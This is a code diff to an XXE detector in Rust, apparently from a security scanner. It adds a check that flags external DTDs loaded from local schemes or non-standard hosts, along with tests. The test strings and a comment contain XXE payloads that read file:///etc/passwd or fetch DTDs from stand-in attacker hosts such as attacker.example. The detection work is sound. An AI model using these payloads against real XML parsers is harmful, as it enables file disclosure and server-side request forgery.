@@ -35,6 +35,47 @@ impl Xxe {
         if find_ci(text, "<xi:include").is_some() && find_ci(text, "href").is_some() {
             return Some(0.85);
         }
+        // An external DTD the parser fetches (`<!DOCTYPE x SYSTEM "http://attacker/x.dtd">`):
+        // out-of-band XXE and SSRF without an entity in the document. Standards bodies'
+        // DTDs (XHTML's, a Servlet descriptor's) are what real documents name.
+        if let Some(at) = find_ci(text, "<!doctype") {
+            let decl = &text[at..];
+            let decl = &decl[..decl.find(['>', '[']).unwrap_or(decl.len())];
+            if let Some(sys) = find_ci(decl, " system") {
+                let id = decl[sys + 7..].trim_start().trim_start_matches(['"', '\'']);
+                let lower = id.to_ascii_lowercase();
+                let local = ["file:", "jar:", "php:", "expect:", "netdoc:", "gopher:"]
+                    .iter()
+                    .any(|s| lower.starts_with(s));
+                let remote = lower.starts_with("http://")
+                    || lower.starts_with("https://")
+                    || lower.starts_with("ftp://");
+                let host = lower.split("://").nth(1).unwrap_or("");
+                let host = host.split(['/', ':']).next().unwrap_or("");
+                let standard = [
+                    "w3.org/",
+                    "java.sun.com/",
+                    "apache.org/",
+                    "oasis-open.org/",
+                    "jcp.org/",
+                    "springframework.org/",
+                    "hibernate.org/",
+                    "mybatis.org/",
+                ]
+                .iter()
+                .any(|h| {
+                    let h = h.trim_end_matches('/');
+                    host.strip_suffix(h)
+                        .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
+                });
+                if local {
+                    return Some(0.95);
+                }
+                if remote && !standard {
+                    return Some(0.8);
+                }
+            }
+        }
         None
     }
 }
@@ -76,6 +117,9 @@ mod tests {
             "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
             "<!DOCTYPE r [<!ENTITY % remote PUBLIC \"x\" \"http://evil.example/x.dtd\"> %remote;]>",
             "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></root>",
+            // An external DTD fetched from anywhere (session 15, held-out XXE set).
+            "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\"><x>1</x>",
+            "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>",
         ] {
             assert!(hit(s), "missed: {s}");
         }
@@ -86,6 +130,9 @@ mod tests {
         for s in [
             "<?xml version=\"1.0\"?><order><id>7</id></order>",
             "<!DOCTYPE html><html><body>hi</body></html>",
+            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
+            "<!DOCTYPE web-app SYSTEM \"http://java.sun.com/dtd/web-app_2_3.dtd\"><web-app/>",
+            "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" \"https://mybatis.org/dtd/mybatis-3-mapper.dtd\"><mapper/>",
             "the include directive is documented",
         ] {
             assert!(!hit(s), "false positive: {s}");
